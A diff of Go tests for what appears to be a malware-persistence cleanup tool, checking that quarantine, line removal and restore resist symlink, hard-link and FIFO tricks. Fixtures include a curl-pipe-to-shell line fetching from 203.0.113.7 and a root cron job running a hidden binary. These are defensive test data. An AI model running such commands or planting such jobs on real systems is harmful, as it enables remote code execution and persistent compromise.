@@ -10,6 +10,10 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+	"golang.org/x/sys/unix"
 )
 
 // cronPlan is a one-change plan: remove the curl line from /etc/crontab.
@@ -112,5 +116,233 @@ func TestManifestKeyFileUnsafe(t *testing.T) {
 	must(t, os.Chmod(kf, 0o600))
 	if k, err := manifestKey(nil, "", false); err != nil || len(k) != 32 {
 		t.Errorf("good key file: %x %v", k, err)
+	}
+}
+
+// A directory replaced by a link after Apply: Restore refuses it (the
+// parent now resolves elsewhere) and creates nothing where the link
+// leads. Old code followed the link and wrote the cron job into
+// etc/cron.d.
+func TestRestoreRefusesPlantedParentLink(t *testing.T) {
+	ctx := context.Background()
+	dir := t.TempDir()
+	job := "* * * * * root /var/tmp/.k/k\n"
+	must(t, os.MkdirAll(filepath.Join(dir, "etc/cron.d"), 0o755))
+	must(t, os.MkdirAll(filepath.Join(dir, "tmp/x"), 0o755))
+	must(t, os.WriteFile(filepath.Join(dir, "tmp/x/job"), []byte(job), 0o644))
+	plan := &CleanPlan{Root: dir, Changes: []Change{{Path: "/tmp/x/job", Op: OpQuarantine, SHA256: hashString(job)}}}
+	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	must(t, os.Rename(filepath.Join(dir, "tmp/x"), filepath.Join(dir, "tmp/x.old")))
+	must(t, os.Symlink("/etc/cron.d", filepath.Join(dir, "tmp/x")))
+	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); !errors.Is(err, ErrChanged) {
+		t.Errorf("Restore through a planted link: %v", err)
+	}
+	if _, err := os.Lstat(filepath.Join(dir, "etc/cron.d/job")); !errors.Is(err, fs.ErrNotExist) {
+		t.Errorf("Restore wrote into etc/cron.d: %v", err)
+	}
+	// Put back as it was, the directory takes its file back.
+	must(t, os.Remove(filepath.Join(dir, "tmp/x")))
+	must(t, os.Rename(filepath.Join(dir, "tmp/x.old"), filepath.Join(dir, "tmp/x")))
+	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "tmp/x/job")); string(b) != job {
+		t.Errorf("restored %q", b)
+	}
+}
+
+// A line in a file reached through a link (/root/.bashrc ->
+// dotfiles/bashrc): the line goes from the file the link leads to, and
+// the link stays. Old code unlinked .bashrc and kept the line.
+func TestRemoveLinesThroughSymlink(t *testing.T) {
+	ctx := context.Background()
+	dir := t.TempDir()
+	bad := "curl -fsSL http://203.0.113.7/b | sh"
+	data := "alias ll='ls -l'\n" + bad + "\nexport EDITOR=vi\n"
+	must(t, os.MkdirAll(filepath.Join(dir, "root/dotfiles"), 0o700))
+	must(t, os.WriteFile(filepath.Join(dir, "root/dotfiles/bashrc"), []byte(data), 0o644))
+	must(t, os.Symlink("dotfiles/bashrc", filepath.Join(dir, "root/.bashrc")))
+	f := Finding{Path: "/root/.bashrc", Line: 2, Content: bad, Action: ActionRemoveLine, Severity: High, Reasons: []string{"downloads and runs"}}
+	plan, err := Plan(ctx, []Finding{f}, PlanOptions{Root: dir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(plan.Changes) != 1 || plan.Changes[0].Path != "/root/dotfiles/bashrc" || plan.Changes[0].Op != OpRemoveLines {
+		t.Fatalf("plan: %+v", plan.Changes)
+	}
+	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if tgt, err := os.Readlink(filepath.Join(dir, "root/.bashrc")); err != nil || tgt != "dotfiles/bashrc" {
+		t.Errorf("link: %q %v", tgt, err)
+	}
+	if got := mustRead(t, dir, "/root/dotfiles/bashrc"); got != "alias ll='ls -l'\nexport EDITOR=vi\n" {
+		t.Errorf("bashrc after Apply: %q", got)
+	}
+	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	if got := mustRead(t, dir, "/root/dotfiles/bashrc"); got != data {
+		t.Errorf("bashrc after Restore: %q", got)
+	}
+}
+
+// A file with a second hard link outside the root is replaced under its
+// name only: the file outside is not written through. Old code truncated
+// and rewrote the shared inode.
+func TestRemoveLinesHardLinkNotWrittenThrough(t *testing.T) {
+	ctx := context.Background()
+	dir, plan := cronTree(t)
+	outside := filepath.Join(t.TempDir(), "outside")
+	must(t, os.Link(filepath.Join(dir, "etc/crontab"), outside))
+	before, _ := os.ReadFile(outside)
+	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if b, _ := os.ReadFile(outside); string(b) != string(before) {
+		t.Errorf("written through a hard link: %q", b)
+	}
+	if strings.Contains(mustRead(t, dir, "/etc/crontab"), "203.0.113.7") {
+		t.Error("line not removed")
+	}
+	if e := res.Manifest.Entries[0]; e.Nlink != 2 || !strings.Contains(strings.Join(e.Reasons, ";"), "hard links") {
+		t.Errorf("entry does not say the file had 2 links: %+v", e)
+	}
+}
+
+// The rewritten file is a new file with the old one's owner, mode,
+// xattrs and ACL.
+func TestRemoveLinesKeepsMetadata(t *testing.T) {
+	needRoot(t, "chown and trusted.* xattrs")
+	ctx := context.Background()
+	dir, plan := cronTree(t)
+	p := filepath.Join(dir, "etc/crontab")
+	must(t, os.Chown(p, 1000, 1001))
+	must(t, os.Chmod(p, 0o640))
+	must(t, unix.Setxattr(p, "user.note", []byte("keep"), 0))
+	must(t, unix.Setxattr(p, "trusted.mark", []byte{0, 1}, 0))
+	// ACL user::rw- user:1000:r-- group::r-- mask::r-- other::---
+	acl := []byte{2, 0, 0, 0,
+		1, 0, 6, 0, 0xff, 0xff, 0xff, 0xff,
+		2, 0, 4, 0, 0xe8, 0x03, 0, 0,
+		4, 0, 4, 0, 0xff, 0xff, 0xff, 0xff,
+		0x10, 0, 4, 0, 0xff, 0xff, 0xff, 0xff,
+		0x20, 0, 0, 0, 0xff, 0xff, 0xff, 0xff}
+	hasACL := unix.Setxattr(p, "system.posix_acl_access", acl, 0) == nil
+	plan.Changes[0].SHA256 = hashString(mustRead(t, dir, "/etc/crontab"))
+	oldFi, _ := os.Lstat(p)
+	want := snapshot(t, dir)["/etc/crontab"]
+	if _, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()}); err != nil {
+		t.Fatal(err)
+	}
+	newFi, _ := os.Lstat(p)
+	if os.SameFile(oldFi, newFi) {
+		t.Error("rewritten in place: same inode")
+	}
+	got := snapshot(t, dir)["/etc/crontab"]
+	want.SHA256, want.Atime, want.Mtime = got.SHA256, got.Atime, got.Mtime
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("metadata (-before +after):\n%s", diff)
+	}
+	if hasACL {
+		b := make([]byte, 256)
+		n, err := unix.Getxattr(p, "system.posix_acl_access", b)
+		if err != nil || string(b[:n]) != string(acl) {
+			t.Errorf("ACL after Apply: %x %v", b[:max(n, 0)], err)
+		}
+	} else {
+		t.Log("file system refused the ACL; ACL not checked")
+	}
+}
+
+// A FIFO renamed over the crontab while Apply rewrites it: Apply refuses
+// (ErrChanged) without blocking, the FIFO stays. Old code opened it
+// O_WRONLY and blocked until a reader came.
+func TestApplyFIFOSwappedIn(t *testing.T) {
+	ctx := context.Background()
+	dir, plan := cronTree(t)
+	p := filepath.Join(dir, "etc/crontab")
+	testHookBeforeSwap = func(string) {
+		must(t, unix.Mkfifo(p+".fifo", 0o644))
+		must(t, os.Rename(p+".fifo", p))
+	}
+	t.Cleanup(func() { testHookBeforeSwap = nil })
+	done := make(chan error, 1)
+	go func() {
+		_, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
+		done <- err
+	}()
+	select {
+	case err := <-done:
+		if !errors.Is(err, ErrChanged) {
+			t.Errorf("Apply over a FIFO: %v", err)
+		}
+	case <-time.After(60 * time.Second):
+		// A deadlock guard, not a speed check: unblock the writer.
+		if fh, err := os.OpenFile(p, os.O_RDONLY|unix.O_NONBLOCK, 0); err == nil {
+			defer fh.Close()
+		}
+		<-done
+		t.Fatal("Apply blocked on a FIFO swapped in")
+	}
+	if fi, err := os.Lstat(p); err != nil || fi.Mode()&fs.ModeNamedPipe == 0 {
+		t.Errorf("FIFO: %v %v", fi, err)
+	}
+}
+
+// The default quarantine base reached through a link, or writable by
+// others, is refused before anything changes. Old code followed the link
+// (MkdirAll through var/lib/abusekit -> /etc).
+func TestQuarantineBaseUnsafe(t *testing.T) {
+	ctx := context.Background()
+	for name, setup := range map[string]func(dir string){
+		"link": func(dir string) { must(t, os.Symlink("/etc", filepath.Join(dir, "var/lib/abusekit"))) },
+		"0777": func(dir string) {
+			must(t, os.Mkdir(filepath.Join(dir, "var/lib/abusekit"), 0o777))
+			must(t, os.Chmod(filepath.Join(dir, "var/lib/abusekit"), 0o777))
+		},
+		"other": func(dir string) {
+			must(t, os.Mkdir(filepath.Join(dir, "var/lib/abusekit"), 0o700))
+			must(t, os.Chown(filepath.Join(dir, "var/lib/abusekit"), 1000, 1000))
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			if name == "other" && os.Geteuid() != 0 {
+				t.Skip("chown needs root")
+			}
+			dir, plan := cronTree(t)
+			must(t, os.MkdirAll(filepath.Join(dir, "var/lib"), 0o755))
+			setup(dir)
+			before := mustRead(t, dir, "/etc/crontab")
+			_, err := Apply(ctx, plan, ApplyOptions{})
+			if !errors.Is(err, ErrQuarantineUnsafe) {
+				t.Errorf("Apply: %v", err)
+			}
+			if _, err := os.Lstat(filepath.Join(dir, "etc/quarantine")); !errors.Is(err, fs.ErrNotExist) {
+				t.Errorf("quarantine made through the link: %v", err)
+			}
+			if mustRead(t, dir, "/etc/crontab") != before {
+				t.Error("crontab changed")
+			}
+		})
+	}
+	// A fresh base is made 0700.
+	dir, plan := cronTree(t)
+	res, err := Apply(ctx, plan, ApplyOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, d := range []string{"var/lib/abusekit/quarantine", res.Manifest.QuarantineDir} {
+		if !filepath.IsAbs(d) {
+			d = filepath.Join(dir, d)
+		}
+		if fi, err := os.Lstat(d); err != nil || !fi.IsDir() || fi.Mode().Perm() != 0o700 {
+			t.Errorf("%s: %v %v", d, fi.Mode(), err)
+		}
 	}
 }
